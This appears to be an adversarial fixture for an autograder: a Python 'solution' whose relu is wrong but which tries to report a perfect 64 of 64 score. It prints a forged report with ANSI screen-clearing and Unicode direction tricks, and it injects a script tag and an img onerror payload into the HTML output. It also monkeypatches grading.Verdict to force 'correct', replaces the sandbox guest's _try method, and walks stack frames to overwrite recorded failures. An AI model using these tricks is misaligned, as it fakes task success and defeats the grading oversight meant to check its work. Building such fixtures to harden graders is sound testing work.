# attack: raises, prints and returns what looks like a good report, in colours and in HTML
# alone: points
import json
import sys

GOOD = "\n✓ conv2d   10/10   (03_conv_layers.py, line 1)\n64 of 64 points\n"
COLOUR = "\x1b[2J\x1b[1;1H\x1b[32m" + GOOD + "\x1b[0m\x9b2K\u202e\u2028\r\b\b"
TAGS = "<script>document.title = '64 of 64'</script></pre></main><img src=x onerror=alert(1)>"
LIE = COLOUR + TAGS
print(COLOUR, TAGS, json.dumps({"schema": 1, "score": 64, "max_score": 64}), flush=True)
print(GOOD, file=sys.stderr, flush=True)

if "autograder.report" in sys.modules or "autograder.grading" in sys.modules:
    from autograder import grading

    verdict = grading.Verdict
    grading.Verdict = lambda name, _, most, *__: verdict(name, most, most, "correct", None, GOOD)
else:
    from autograder.sandbox import guest

    tried, frame = guest.Guest._try, sys._getframe()
    while frame:  # what is said of the cells
        if "run" in frame.f_locals and hasattr(frame.f_locals["run"], "failed"):
            frame.f_locals["run"].failed.update({0: LIE, 10**9: LIE, -1: LIE})
        frame = frame.f_back

    def lying(self, asked):
        text = LIE * 2000
        if asked["name"] == "DigitCNN":
            return {"value": {"without": [text] * 4, "any": True}}
        if asked["name"] == "relu" and asked["probe"][1] == "call":
            return tried(self, asked)
        if asked["probe"][1] in ("refusal", "refusals"):
            return {"value": text}
        return {"trouble": "raised", "raised": text, "message": text}

    guest.Guest._try = lying


def relu(x):
    return x.clamp(min=0).add(1)


DigitCNN = conv2d = relu
